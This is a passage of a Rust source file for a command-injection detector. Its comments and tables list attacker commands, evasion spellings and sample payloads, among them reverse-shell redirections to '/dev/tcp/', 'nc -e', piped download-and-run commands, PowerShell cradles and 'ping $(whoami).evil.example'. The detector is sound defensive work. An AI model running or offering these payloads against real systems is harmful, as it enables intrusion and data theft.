//! OS command injection: does a value, spliced into a shell command line
//! (POSIX `sh`/bash, `cmd.exe`, PowerShell) as-is or inside a quoted
//! argument, start a command of its own?
//!
//! The value is read three ways (as-is, as if inside `'…'`, as if inside
//! `"…"`; the quoted readings only when the value has that quote) and each
//! reading is lexed ([`super::shell_lexer`]) into cooked words, separators,
//! substitutions and redirections. A walk over the tokens finds *command
//! positions* (the start of an as-is value, after a separator, the start
//! of a substitution or group), takes the word there (after `X=…`
//! assignments and wrappers such as `nohup`, `sudo`, `busybox`), strips a
//! system path prefix and an `.exe` suffix, and looks it up in a table of
//! the commands attackers run, or matches a glob path (`/???/c?t`) against
//! the binaries of that table in `/bin`, `/usr/bin`, `/sbin`, `/usr/sbin`.
//!
//! A command name is not enough: `cat`, `id`, `ls`, `more`, `type`, `set`
//! and `host` are words. Whether it is flagged depends on two things.
//!
//! **The command's arguments.** Each class of command needs what it takes
//! to do harm: a reader a path or file name (`cat /etc/passwd`, not `cat
//! lovers`), a network tool an address, URL or option, an interpreter an
//! option, script or input pipe, `echo` a redirection or a pipe, `sleep` a
//! lone number; reconnaissance commands (`id`, `whoami`, `uname`, …) need
//! nothing. Some shapes are strong on their own: a redirection to
//! `/dev/tcp/`, `nc -e`, `socat … exec:`, a shell fed by a pipe, PowerShell
//! `-enc` or a download cradle, `certutil -urlcache`, `bitsadmin /transfer`,
//! and above all a command name spelled with a trick an ordinary value never
//! needs (`c''at`, `c\at`, `w^h^o`, `$'\x63at'`, `${PATH:0:1}`, `ca$@t`,
//! `{cat,…}`, `$IFS`, a glob path, `$X` after `X=…`).
//!
//! **The command's position.** A value typed by a person holds `;`, `&`
//! and `|` in prose ("Tom & Jerry; cat lovers welcome", "home | office").
//! An injection ends the application's argument first, so a separator
//! counts only when what comes before it (from the start, or from the
//! quote the value closed) is a single word (an address, a file name,
//! nothing) or ends in a quote, or when the command before it was itself
//! one of the table's (`id;whoami`). After prose, only the strong shapes
//! count. At the very start of an as-is value (a value run as a command
//! line of its own) the arguments must say shell (`ls -la`, `cat
//! /etc/passwd`) and not run on as a sentence (`rm -rf is dangerous`, two
//! plain words in a row): a lone `id` or `sleep 5` is not flagged there,
//! nor is a capitalised `Type`/`More`/`Echo` opening a sentence. A bare
//! reconnaissance command after a separator must end the value, a
//! substitution or a group, feed a pipe or redirection, or be followed by
//! another command (`id;`, `id;ls`), so that `name;id;email` is a list.
//!
//! Substitutions run wherever they are, even inside `"…"`, so `$(…)` and
//! `` `…` `` count anywhere, but markdown uses backticks for code in prose
//! ("Run `ls -la` then cat the file") and jQuery writes `$(id)`. A
//! substitution is a credible position when it is glued to the start of
//! its command (`$(id)`, `x$(id)`, `a=$(id)`) or is the argument of a
//! table command (`ping $(whoami).evil.example`); after prose, `$(…)` needs
//! an argument that is more than options and a backtick needs an address,
//! URL, redirection or pipe, or a strong shape. A substitution that *is*
//! the command word and prints (`$(printf '\x69\x64')`, `` `echo id` ``,
//! `$(rev<<<'di')`) builds a command out of data: strong. Three backticks
//! are a markdown fence, never shell. The price: `` see
//! `cat /etc/passwd` `` in a forum post is let through, and so is `foo bar
//! $(id)`.
//!
//! Unix commands match in lower case only, as the shell finds them;
//! Windows and cross-platform ones in any case (`cmd.exe` and PowerShell
//! ignore it). `cmd.exe`-only builtins with common names (`set`, `ver`)
//! count bare only after a `cmd.exe` separator (`&`, `|`), not `;`.
//!
//! Known gaps, each a trade-off: commands outside the table (`./x`,
//! `/tmp/payload`, `grep`, `cp`); plain-word arguments (`id root`, `cat
//! notes`); prose before the injection point without a strong shape (`hello
//! there; cat /etc/passwd`); `cmd.exe`'s `,` and `=` delimiters; values that
//! are themselves a command line typed by a person (`ls -la` alone is
//! flagged).

use std::fmt;

use super::label::Label;
use super::shell_lexer::{flags, Kind, Lexer, Quote, Redir, Sep, Sub, Token, DYNAMIC};

/// Where the value was assumed to sit when the injection was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ShellContext {
    /// `ping <value>`.
    AsIs,
    /// `grep '<value>' file`.
    SingleQuoted,
    /// `echo "<value>"`.
    DoubleQuoted,
}

impl ShellContext {
    pub fn name(self) -> &'static str {
        match self {
            ShellContext::AsIs => "as-is",
            ShellContext::SingleQuoted => "in '…'",
            ShellContext::DoubleQuoted => "in \"…\"",
        }
    }
}

/// Where the injected command starts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CmdiPosition {
    /// The value starts with it.
    Start,
    /// After `;`, `|`, `||`, `&`, `&&`, a newline, or in a group.
    AfterSeparator,
    /// Inside `$(…)`, `` `…` `` or `<(…)`.
    Substitution,
}

impl CmdiPosition {
    pub fn name(self) -> &'static str {
        match self {
            CmdiPosition::Start => "at the start",
            CmdiPosition::AfterSeparator => "after a separator",
            CmdiPosition::Substitution => "in a substitution",
        }
    }
}

/// Why the command was taken for an injection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CmdiReason {
    /// The command name is spelled with quoting or expansion tricks.
    Evasion,
    /// A glob path that matches a system binary: `/???/c?t`.
    Glob,
    /// `/dev/tcp/` redirections, `nc -e`, `socat … exec:`.
    ReverseShell,
    /// Fetching a URL: `wget http://…`, `certutil -urlcache`, `IEX(…)`.
    Download,
    /// A shell or script interpreter given code: `sh -c`, `| bash`,
    /// `powershell -enc`, `python -c`.
    Interpreter,
    /// `sleep <n>`, `ping -c <n>`: blind probing by delay.
    Delay,
    /// A reconnaissance command: `id`, `whoami`, `uname -a`, `net user`.
    Recon,
    /// Any other command of the table with a shell-like argument.
    Command,
}

impl CmdiReason {
    pub fn describe(self) -> &'static str {
        match self {
            CmdiReason::Evasion => "disguised command",
            CmdiReason::Glob => "glob matching a system binary",
            CmdiReason::ReverseShell => "reverse shell",
            CmdiReason::Download => "download",
            CmdiReason::Interpreter => "interpreter",
            CmdiReason::Delay => "time delay",
            CmdiReason::Recon => "reconnaissance command",
            CmdiReason::Command => "command",
        }
    }
}

/// A command injection found in a value, for the log.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CmdiMatch {
    pub context: ShellContext,
    pub position: CmdiPosition,
    pub reason: CmdiReason,
    /// The command, de-quoted, without its path or `.exe`.
    pub command: Label,
}

impl fmt::Display for CmdiMatch {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "command injection: {} {} ({}, {})",
            self.reason.describe(),
            self.command,
            self.position.name(),
            self.context.name()
        )
    }
}

/// The first command injection found in `input`, if any.
pub fn is_cmdi(input: &[u8]) -> Option<CmdiMatch> {
    scan(input, false)
}

/// As [`is_cmdi`], but only injections where an injection can start: the
/// value's own start, after a separator that ends a one-word argument or
/// a closed quote, or a substitution glued to its command; plus, anywhere,
/// a command spelled with a trick (`c''at`, `$IFS`, a glob path) that no
/// ordinary text needs. A strong shape inside prose (a forum post's
/// `` `curl … | sh` ``, `$(pwd)` in a `docker run` line) is left to
/// [`is_cmdi`]: an application that hands a whole post to a shell is rare,
/// one that hands it a host name or a file name is not.
pub fn is_cmdi_at_injection_points(input: &[u8]) -> Option<CmdiMatch> {
    scan(input, true)
}

fn scan(input: &[u8], strict: bool) -> Option<CmdiMatch> {
    if !worth_reading(input) {
        return None;
    }
    let readings = [
        (ShellContext::AsIs, true),
        (ShellContext::SingleQuoted, input.contains(&b'\'')),
        (ShellContext::DoubleQuoted, input.contains(&b'"')),
    ];
    readings
        .into_iter()
        .filter(|&(_, wanted)| wanted)
        .find_map(|(context, _)| {
            let mut walker = Walker::new(input, context);
            walker.strict = strict;
            let hit = walker.run()?;
            Some(CmdiMatch {
                context,
                position: hit.position,
                reason: hit.reason,
                command: hit.command,
            })
        })
}

/// Bytes without which the only command position is the start.
static META: [bool; 256] = {
    let mut t = [false; 256];
    let bytes = b";|&\n\r$`()<>{}'\"\\^%?*[#";
    let mut i = 0;
    while i < bytes.len() {
        t[bytes[i] as usize] = true;
        i += 1;
    }
    t
};

/// Anything a payload needs: a shell metacharacter, or a table command
/// (or a path) as the first word.
fn worth_reading(input: &[u8]) -> bool {
    if input.iter().any(|&b| META[usize::from(b)]) {
        return true;
    }
    let first = input
        .trim_ascii_start()
        .split(|b| b.is_ascii_whitespace())
        .next()
        .unwrap_or_default();
    first.starts_with(b"/") || lookup(first, 0).is_some()
}

// ---- The command table ------------------------------------------------------

/// What a command needs in order to do harm.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Class {
    /// Harmful bare: `id`, `whoami`, `uname -a`.
    Recon,
    /// Bare, or with a path or option: `ls`, `dir c:\`, `pwd`.
    List,
    /// A `cmd.exe` builtin with a common name: bare, after `&` or `|`.
    CmdRecon,
    /// Needs a file: `cat /etc/passwd`, `rm -rf /`, `type c:\boot.ini`.
    Reader,
    /// Needs an address, URL or option: `curl http://…`, `nc 1.2.3.4 80`.
    Net,
    /// Needs an option, script, URL or input pipe: `sh -c`, `| bash`.
    Interp,
    /// `echo`, `printf`: with a redirection or a pipe.
    Echo,
    /// `sleep`, `timeout`: a lone number.
    Sleep,
    /// `kill`: an option or a number.
    Kill,
    /// Runs the command after it: `nohup`, `sudo`, `busybox`, `env`.
    Wrapper,
    /// Needs input: `rev<<<…`, `| rev`.
    Filter,
    /// `awk`, `sed`: a quoted script, an option or a file.
    Script,
    /// `base64 -d`.
    Base64,
    /// `net user …`: a sub-command from the entry's list.
    WinNet,
    /// `eval <anything but a word>`.
    Eval,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Os {
    /// Found by the exact, lower-case name.
    Unix,
    /// `cmd.exe`/PowerShell: any case.
    Windows,
    /// Both: any case.
    Both,
}

#[derive(Debug)]
struct Entry {
    name: &'static str,
    class: Class,
    os: Os,
    /// Plain words accepted as the first argument (`net user`, `ps aux`).
    words: &'static [&'static str],
}

const fn e(name: &'static str, class: Class, os: Os) -> Entry {
    Entry {
        name,
        class,
        os,
        words: &[],
    }
}

const NET_WORDS: &[&str] = &[
    "accounts",
    "config",
    "group",
    "localgroup",
    "session",
    "share",
    "start",
    "stop",
    "use",
    "user",
    "users",
    "view",
];

/// Sorted by name (a test checks), for binary search.
const TABLE: &[Entry] = {
    use Class::*;
    use Os::*;
    &[
        e("awk", Script, Unix),
        e("base64", Base64, Unix),
        e("bash", Interp, Unix),
        e("bitsadmin", Interp, Windows),
        e("busybox", Wrapper, Unix),
        e("cat", Reader, Unix),
        e("certutil", Interp, Windows),
        e("chmod", Reader, Unix),
        e("chown", Reader, Unix),
        e("cmd", Interp, Windows),
        e("crontab", Reader, Unix),
        e("cscript", Interp, Windows),
        e("csh", Interp, Unix),
        e("curl", Net, Both),
        e("dash", Interp, Unix),
        e("dig", Net, Unix),
        e("dir", List, Both),
        e("echo", Echo, Both),
        e("env", Wrapper, Unix),
        e("eval", Eval, Unix),
        e("exec", Wrapper, Unix),
        e("find", Reader, Unix),
        e("ftp", Net, Both),
        e("gawk", Script, Unix),
        e("head", Reader, Unix),
        e("host", Net, Unix),
        e("hostname", Recon, Both),
        e("id", Recon, Unix),
        e("ifconfig", Recon, Unix),
        e("ipconfig", Recon, Windows),
        e("kill", Kill, Unix),
        e("ksh", Interp, Unix),
        e("less", Reader, Unix),
        e("ls", List, Both),
        e("lua", Interp, Unix),
        e("mkfifo", Reader, Unix),
        e("more", Reader, Both),
        e("mshta", Interp, Windows),
        e("nc", Net, Unix),
        e("nc.openbsd", Net, Unix),
        e("nc.traditional", Net, Unix),
        e("ncat", Net, Both),
        Entry {
            name: "net",
            class: WinNet,
            os: Windows,
            words: NET_WORDS,
        },
        Entry {
            name: "net1",
            class: WinNet,
            os: Windows,
            words: NET_WORDS,
        },
        e("netcat", Net, Unix),
        e("netstat", Recon, Both),
        e("nl", Reader, Unix),
        e("node", Interp, Both),
        e("nohup", Wrapper, Unix),
        e("nslookup", Net, Both),
        e("od", Reader, Unix),
        e("perl", Interp, Both),
        e("php", Interp, Both),
        e("ping", Net, Both),
        e("powershell", Interp, Windows),
        e("printenv", Recon, Unix),
        e("printf", Echo, Unix),
        Entry {
            name: "ps",
            class: Recon,
            os: Unix,
            words: &["aux", "auxf", "auxww", "ax", "axu", "ef", "faux"],
        },
        e("pwd", List, Unix),
        e("pwsh", Interp, Both),
        e("python", Interp, Both),
        e("regsvr32", Interp, Windows),
        e("rev", Filter, Unix),
        e("rm", Reader, Unix),
        e("ruby", Interp, Both),
        e("rundll32", Interp, Windows),
        e("scp", Net, Both),
        e("sed", Script, Unix),
        e("set", CmdRecon, Windows),
        e("sh", Interp, Unix),
        e("sleep", Sleep, Unix),
        e("socat", Net, Unix),
        e("source", Reader, Unix),
        e("ssh", Net, Both),
        e("strings", Reader, Unix),
        e("sudo", Wrapper, Unix),
        e("systeminfo", Recon, Windows),
        e("tac", Reader, Unix),
        e("tail", Reader, Unix),
        e("tasklist", Recon, Windows),
        e("tcsh", Interp, Unix),
        e("telnet", Net, Both),
        e("telnetd", Net, Unix),
        e("tftp", Net, Both),
        e("timeout", Sleep, Both),
        e("type", Reader, Windows),
        e("uname", Recon, Unix),
        e("ver", CmdRecon, Windows),
        e("wget", Net, Both),
        e("whoami", Recon, Both),
        Entry {
            name: "wmic",
            class: Recon,
            os: Windows,
            words: &[
                "computersystem",
                "group",
                "logicaldisk",
                "nicconfig",
                "os",
                "process",
                "product",
                "qfe",
                "service",
                "share",
                "startup",
                "useraccount",
            ],
        },
        e("wscript", Interp, Windows),
        e("xargs", Wrapper, Unix),
        e("xxd", Reader, Unix),
        e("zsh", Interp, Unix),
    ]
};

/// Where a glob path may find a binary of the table.
const BIN_DIRS: &[&str] = &[
    "/bin/",
    "/usr/bin/",
    "/sbin/",
    "/usr/sbin/",
    "/usr/local/bin/",
];

/// The directories a command path may name before the command.
const BIN_PATHS: &[&[&str]] = &[
    &["bin"],
    &["sbin"],
    &["usr", "bin"],
    &["usr", "sbin"],
    &["usr", "local", "bin"],
    &["usr", "local", "sbin"],
];

/// For each first byte, the lengths of [`TABLE`]'s names that start with
/// it, as bits (`1 << len`; names are at most 20 bytes): a word of a
/// length no such name has is told apart without a compare.
const LENGTHS_BY_FIRST_BYTE: [u32; 256] = {
    let mut lengths = [0u32; 256];
    let mut i = 0;
    while i < TABLE.len() {
        let name = TABLE[i].name.as_bytes();
        assert!(!name.is_empty() && name.len() < 32);
        lengths[name[0] as usize] |= 1 << name.len();
        i += 1;
    }
    lengths
};

/// Where each first byte's entries start in [`TABLE`]: byte `b`'s are
/// `BY_FIRST_BYTE[b]..BY_FIRST_BYTE[b + 1]`. Most words looked up are
/// not commands; this turns most lookups into two loads and no compare.
const BY_FIRST_BYTE: [u16; 257] = {
    let mut start = [0u16; 257];
    let mut b = 0;
    while b < 256 {
        // The first entry whose name starts with `b` or later (the table
        // is sorted, and no name is empty).
        let mut i = 0;
        while i < TABLE.len() && (TABLE[i].name.as_bytes()[0] as usize) < b {
            i += 1;
        }
        start[b] = i as u16;
        b += 1;
    }
    start[256] = TABLE.len() as u16;
    start
};

/// The table entry `word` (cooked) names, if any: without a system path
/// prefix, an `.exe`-like suffix or a version (`python3.11`).
fn lookup(word: &[u8], fl: u16) -> Option<&'static Entry> {
    let name = command_name(word, fl)?;
    let mut buf = [0u8; 20];
    let len = name.len();
    if len == 0 || len > buf.len() || name.contains(&DYNAMIC) {
        return None;
    }
    let lower = buf.get_mut(..len)?;
    lower.copy_from_slice(name);
    lower.make_ascii_lowercase();
    let mut key: &[u8] = lower;
    for base in ["python", "php", "perl", "ruby", "lua"] {
        if let Some(version) = key.strip_prefix(base.as_bytes()) {
            if !version.is_empty() && version.iter().all(|b| b.is_ascii_digit() || *b == b'.') {
                key = base.as_bytes();
            }
        }
    }
    // Only the entries that share the key's first byte are compared.
    let first = usize::from(*key.first()?);
    if LENGTHS_BY_FIRST_BYTE.get(first)? & (1 << key.len()) == 0 {
        return None;
    }
    let from = usize::from(*BY_FIRST_BYTE.get(first)?);
    let to = usize::from(*BY_FIRST_BYTE.get(first + 1)?);
    let bucket = TABLE.get(from..to)?;
    let i = bucket
        .binary_search_by(|entry| entry.name.as_bytes().cmp(key))
        .ok()?;
    let entry = bucket.get(i)?;
    // `ls`, `Cat`, `ID`: the Unix shell finds lower-case names only.
    let exact = name.len() == key.len() && name == key;
    (entry.os != Os::Unix || exact || key == b"python").then_some(entry)
}

/// `word` without a system path prefix or an `.exe`/`.com`/`.bat`/`.cmd`
/// suffix; `None` for any other path.
fn command_name(word: &[u8], fl: u16) -> Option<&[u8]> {
    let windows = fl & flags::WINDOWS_PATH != 0
        || word.contains(&b'\\')
        || matches!(word, [d, b':', ..] if d.is_ascii_alphabetic());
    let mut name = if windows {
        word.rsplit(|&b| b == b'\\' || b == b'/').next()?
    } else if word.starts_with(b"/") {
        let mut parts = word
            .split(|&b| b == b'/')
            .filter(|p| !p.is_empty() && *p != b".");
        let mut dirs: [&[u8]; 3] = [&[]; 3];
        let mut n = 0;
        let mut last = parts.next()?;
        for p in parts {
            *dirs.get_mut(n)? = last;
            n += 1;
            last = p;
        }
        let dirs = dirs.get(..n)?;
        let known = BIN_PATHS.iter().any(|known| {
            known.len() == dirs.len() && known.iter().zip(dirs).all(|(k, d)| k.as_bytes() == *d)
        });
        if !known {
            return None;
        }
        last
    } else if word.contains(&b'/') {
        return None;
    } else {
        word
    };
    for ext in [b".exe", b".com", b".bat", b".cmd"] {
        if name.len() > 4 {
            let (stem, tail) = name.split_at(name.len() - 4);
            if tail.eq_ignore_ascii_case(ext) {
                name = stem;
            }
        }
    }
    Some(name)
}

/// The table entry a glob path (`/???/c?t`, `/usr/bin/i?`) names, if it
/// matches one of the table's binaries in a system directory.
fn glob_lookup(pattern: &[u8]) -> Option<&'static Entry> {
    if !pattern.starts_with(b"/") || pattern.len() > 40 {
        return None;
    }
    let mut buf = [0u8; 64];
    TABLE.iter().filter(|e| e.os != Os::Windows).find(|entry| {
        BIN_DIRS.iter().any(|dir| {
            let (d, n) = (dir.as_bytes(), entry.name.as_bytes());
            let len = d.len() + n.len();
            let Some(path) = buf.get_mut(..len) else {
                return false;
            };
            let (head, tail) = path.split_at_mut(d.len());
            head.copy_from_slice(d);
            tail.copy_from_slice(n);
            glob_match(pattern, path)
        })
    })
}

/// Shell glob matching: `?` and `*` do not match `/`; `[…]` with ranges
/// and `!`/`^` negation.
fn glob_match(pattern: &[u8], path: &[u8]) -> bool {
    const N: usize = 65;
    if path.len() >= N {
        return false;
    }
    // cur[j]: the pattern read so far matches path[..j].
    let mut cur = [false; N];
    cur[0] = true;
    let mut p = 0;
    while let Some(&c) = pattern.get(p) {
        let mut next = [false; N];
        let (class, used) = match c {
            b'[' => bracket(pattern.get(p + 1..).unwrap_or_default()),
            _ => (None, 1),
        };
        for j in 0..=path.len() {
            let prev = j.checked_sub(1);
            let byte = prev.and_then(|i| path.get(i)).copied();
            let step = |ok: bool| ok && prev.is_some_and(|i| cur.get(i) == Some(&true));
            let m = match (c, &class) {
                (b'*', _) => {
                    cur.get(j) == Some(&true)
                        || (byte.is_some_and(|b| b != b'/')
                            && prev.is_some_and(|i| next.get(i) == Some(&true)))
                }
                (b'?', _) => step(byte.is_some_and(|b| b != b'/')),
                (b'[', Some(set)) => step(byte.is_some_and(|b| set.matches(b))),
                _ => step(byte == Some(c)),
            };
            if let Some(slot) = next.get_mut(j) {
                *slot = m;
            }
        }
        cur = next;
        p += if class.is_some() { used + 1 } else { 1 };
    }
    cur.get(path.len()) == Some(&true)
}

/// A bracket expression: its bytes (after `[`), negation.
struct Bracket<'a> {
    body: &'a [u8],
    negated: bool,
}

impl Bracket<'_> {
    fn matches(&self, b: u8) -> bool {
        let mut hit = false;
        let mut i = 0;
        while let Some(&lo) = self.body.get(i) {
            match (self.body.get(i + 1), self.body.get(i + 2)) {
                (Some(b'-'), Some(&hi)) => {
                    hit |= (lo..=hi).contains(&b);
                    i += 3;
                }
                _ => {
                    hit |= lo == b;
                    i += 1;
                }
            }
        }
        hit != self.negated && b != b'/'
    }
}

/// The bracket expression at the start of `s` (just after `[`) and the
/// bytes it takes up to and including `]`; `None` when it is not closed.
fn bracket(s: &[u8]) -> (Option<Bracket<'_>>, usize) {
    let (negated, from) = match s.first() {
        Some(b'!' | b'^') => (true, 1),
        _ => (false, 0),
    };
    // A `]` first is a member, not the end.
    let search = s.get(from + 1..).unwrap_or_default();
    match search.iter().position(|&b| b == b']') {
        Some(i) => {
            let end = from + 1 + i;
            let body = s.get(from..end).unwrap_or_default();
            (Some(Bracket { body, negated }), end + 1)
        }
        None => (None, 1),
    }
}

// ---- Arguments -----------------------------------------------------------

/// What an argument looks like, as bits.
mod kind {
    /// `-x`, `--long`.
    pub const OPTION: u16 = 1;
    /// `/…`, `~/…`, `./…`, `C:\…`.
    pub const PATH: u16 = 1 << 1;
    /// A path into the system: two components or more, or a known root.
    pub const SYSTEM_PATH: u16 = 1 << 2;
    pub const URL: u16 = 1 << 3;
    /// `1.2.3.4`, `1.2.3.4:80`, `localhost`.
    pub const IP: u16 = 1 << 4;
    /// `evil.example`, `flag.txt`.
    pub const DOTTED: u16 = 1 << 5;
    pub const NUMBER: u16 = 1 << 6;
    /// Letters only: a word of prose.
    pub const PLAIN: u16 = 1 << 7;
    pub const GLOB: u16 = 1 << 8;
    /// `/c`, `/add`: a Windows option (also a path to the shell).
    pub const SLASH_OPTION: u16 = 1 << 9;
    /// Anything else: `P@ss`, `eth0`, `+x`.
    pub const OTHER: u16 = 1 << 10;
}

/// Argument shapes particular commands care about, as bits.
mod mark {
    /// `-e`, `-c`, `--exec`, `--sh-exec` (`nc`), `-exec` (`find`).
    pub const EXEC: u16 = 1;
    /// PowerShell `-enc`, `-e`, `-ec`, `-EncodedCommand`.
    pub const ENCODED: u16 = 1 << 1;
    /// `IEX`, `DownloadString`, `Invoke-WebRequest`, `Net.WebClient`, …
    pub const CRADLE: u16 = 1 << 2;
    /// `certutil -urlcache`/`-decode`, `bitsadmin /transfer`.
    pub const FETCH: u16 = 1 << 3;
    /// `javascript:`, `vbscript:`, or an `http(s)://` URL anywhere in it
    /// (`regsvr32 /i:http://…`).
    pub const REMOTE: u16 = 1 << 4;
    /// `base64 -d`.
    pub const DECODE: u16 = 1 << 5;
    /// `-c <n>`, `-n <n>` (`ping`), `/t <n>` (`timeout`).
    pub const COUNT: u16 = 1 << 6;
    /// `nc -l`, `-lvp`, `-nlvp`.
    pub const LISTEN: u16 = 1 << 7;
    /// `socat … exec:`/`system:`.
    pub const EXEC_ADDRESS: u16 = 1 << 8;
    /// `/c`, `/k`, `/r` (`cmd`).
    pub const CMD_RUN: u16 = 1 << 9;
}

/// The arguments of a simple command, summarised.
#[derive(Debug, Clone, Copy, Default)]
struct Args {
    n: u8,
    /// Kinds of the first argument.
    first: u16,
    first_quoted: bool,
    first_word: Label,
    /// Kinds of all of them.
    seen: u16,
    marks: u16,
    /// The last one was a count option (`-c`): a number follows.
    count_next: bool,
    /// A word after a `$IFS` split.
    ifs: bool,
    /// Plain words in a row, now and at most: `rm -rf is dangerous`.
    plain_run: u8,
    max_plain_run: u8,
    /// A substitution among them.
    sub: bool,
    redirect_out: bool,
    redirect_in: bool,
    /// A redirection to `/dev/tcp/…` or `/dev/udp/…`.
    dev_tcp: bool,
    /// The next word is the target of this redirection.
    target: Option<Redir>,
}

impl Args {
    fn add(&mut self, word: &[u8], fl: u16) {
        let k = kinds(word, fl);
        let mut lower = [0u8; 48];
        let len = word.len().min(lower.len());
        let l = lower.get_mut(..len).unwrap_or_default();
        l.copy_from_slice(word.get(..len).unwrap_or_default());
        l.make_ascii_lowercase();
        let l: &[u8] = l;
        if self.n == 0 {
            self.first = k;
            self.first_quoted = fl & flags::QUOTED != 0;
            self.first_word = Label::lower(l);
        }
        self.n = self.n.saturating_add(1);
        self.seen |= k;
        self.ifs |= fl & flags::IFS != 0;
        self.plain_run = if k & kind::PLAIN != 0 {
            self.plain_run.saturating_add(1)
        } else {
            0
        };
        self.max_plain_run = self.max_plain_run.max(self.plain_run);
        if self.count_next && k & kind::NUMBER != 0 {
            self.marks |= mark::COUNT;
        }
        self.count_next = false;
        self.marks |= marks(l, k);
        self.count_next = matches!(l, b"-c" | b"-n" | b"/t" | b"-t");
    }

    fn redirect_target(&mut self, r: Redir, word: &[u8]) {
        if word.starts_with(b"/dev/tcp/") || word.starts_with(b"/dev/udp/") {
            self.dev_tcp = true;
        }
        match r {
            Redir::Out => self.redirect_out = true,
            Redir::In | Redir::HereString | Redir::HereDoc => self.redirect_in = true,
            Redir::Dup => {}
        }
    }
}

/// Shapes of a lower-cased argument that some commands care about.
fn marks(l: &[u8], k: u16) -> u16 {
    let mut m = 0;
    if k & kind::OPTION != 0 {
        m |= match l {
            b"-e" => mark::EXEC | mark::ENCODED,
            b"-c" | b"--exec" | b"--sh-exec" | b"--lua-exec" | b"-exec" => mark::EXEC,
            b"-urlcache" | b"-decode" | b"-decodehex" => mark::FETCH,
            b"-d" | b"--decode" => mark::DECODE,
            _ if l.starts_with(b"-en") || l.starts_with(b"-ec") => mark::ENCODED,
            _ if l.len() <= 6 && l.get(1) != Some(&b'-') && l.contains(&b'l') => mark::LISTEN,
            _ => 0,
        };
    }
    if k & kind::SLASH_OPTION != 0 {
        m |= match l {
            b"/c" | b"/k" | b"/r" => mark::CMD_RUN,
            b"/transfer" | b"/download" | b"/addfile" | b"/urlcache" => mark::FETCH,
            _ => 0,
        };
    }
    const CRADLES: &[&[u8]] = &[
        b"iex",
        b"invoke-expression",
        b"downloadstring",
        b"downloadfile",
        b"invoke-webrequest",
        b"invoke-restmethod",
        b"net.webclient",
        b"start-bitstransfer",
        b"frombase64string",
    ];
    if CRADLES.iter().any(|c| contains(l, c)) || l == b"iwr" || l == b"irm" {
        m |= mark::CRADLE;
    }
    if l.starts_with(b"javascript:")
        || l.starts_with(b"vbscript:")
        || contains(l, b"http://")
        || contains(l, b"https://")
    {
        m |= mark::REMOTE;
    }
    if l.starts_with(b"exec:") || l.starts_with(b"system:") {
        m |= mark::EXEC_ADDRESS;
    }
    m
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

/// Roots of a Unix or Windows file system an attacker reads or writes.
const SYSTEM_ROOTS: &[&[u8]] = &[
    b"bin", b"boot", b"dev", b"etc", b"home", b"lib", b"lib64", b"mnt", b"opt", b"proc", b"root",
    b"run", b"sbin", b"srv", b"sys", b"tmp", b"usr", b"var",
];

/// What a cooked argument looks like.
fn kinds(w: &[u8], fl: u16) -> u16 {
    let mut k = if fl & flags::GLOB != 0 { kind::GLOB } else { 0 };
    let Some(&first) = w.first() else {
        return kind::OTHER;
    };
    match first {
        b'-' => {
            let long = w.get(1) == Some(&b'-') && w.get(2).is_some_and(u8::is_ascii_alphabetic);
            if w.get(1).is_some_and(u8::is_ascii_alphanumeric) || long {
                return k | kind::OPTION;
            }
        }
        b'/' => {
            k |= kind::PATH;
            let rest = w.get(1..).unwrap_or_default();
            let root = rest.split(|&b| b == b'/').next().unwrap_or_default();
            let deep = rest.iter().filter(|&&b| b == b'/').count() >= 1
                && rest.split(|&b| b == b'/').filter(|p| !p.is_empty()).count() >= 2;
            if deep || rest.is_empty() || SYSTEM_ROOTS.contains(&root) {
                k |= kind::SYSTEM_PATH;
            }
            if !rest.is_empty()
                && rest.len() <= 12
                && rest.iter().all(|b| b.is_ascii_alphabetic() || *b == b':')
            {
                k |= kind::SLASH_OPTION;
            }
            return k;
        }
        b'~' if w.len() == 1 || w.get(1) == Some(&b'/') => {
            return k | kind::PATH | kind::SYSTEM_PATH;
        }
        b'.' if matches!(w, b"." | b"..")
            || w.starts_with(b"./")
            || w.starts_with(b"../")
            || w.starts_with(b".\\")
            || w.starts_with(b"..\\") =>
        {
            return k | kind::PATH;
        }
        b'\\' if w.starts_with(b"\\\\") => return k | kind::URL,
        DYNAMIC if w.get(1) == Some(&b'/') => return k | kind::PATH | kind::SYSTEM_PATH,
        _ => {}
    }
    if matches!(w, [d, b':', b'\\' | b'/', ..] | [d, b':'] if d.is_ascii_alphabetic()) {
        return k | kind::PATH | kind::SYSTEM_PATH;
    }
    if let Some(i) = w.windows(3).position(|x| x == b"://") {
        let scheme = w.get(..i).unwrap_or_default();
        if !scheme.is_empty() && scheme.iter().all(u8::is_ascii_alphabetic) {
            return k | kind::URL;
        }
    }
    // `root@1.2.3.4`, `user@evil.example`: the host is what counts.
    let host = match w.iter().position(|&b| b == b'@') {
        Some(i) => w.get(i + 1..).unwrap_or_default(),
        None => w,
    };
    if is_ip(host) || host.eq_ignore_ascii_case(b"localhost") {
        return k | kind::IP;
    }
    if w.iter().all(u8::is_ascii_digit) {
        return k | kind::NUMBER;
    }
    if is_dotted(host) {
        return k | kind::DOTTED;
    }
    if w.iter().all(u8::is_ascii_alphabetic) {
        return k | kind::PLAIN;
    }
    if k == 0 {
        k = kind::OTHER;
    }
    k
}

/// `1.2.3.4`, with an optional `:port` or `/path`.
fn is_ip(w: &[u8]) -> bool {
    let host = w
        .split(|&b| b == b':' || b == b'/')
        .next()
        .unwrap_or_default();
    let mut parts = 0;
    for p in host.split(|&b| b == b'.') {
        if p.is_empty() || p.len() > 3 || !p.iter().all(u8::is_ascii_digit) {
            return false;
        }
        parts += 1;
    }
    parts == 4
}

/// `evil.example`, `flag.txt`, `.x.oast.me`, `host:8080`, `a.b/c`: dotted
/// labels with a letter, the last one alphabetic.
fn is_dotted(w: &[u8]) -> bool {
    let host = w
        .split(|&b| b == b':' || b == b'/')
        .next()
        .unwrap_or_default();
    let host = host.strip_prefix(b".").unwrap_or(host);
    let mut labels = 0;
    let mut last: &[u8] = &[];
    for label in host.split(|&b| b == b'.') {
        if label.is_empty()
            || !label
                .iter()
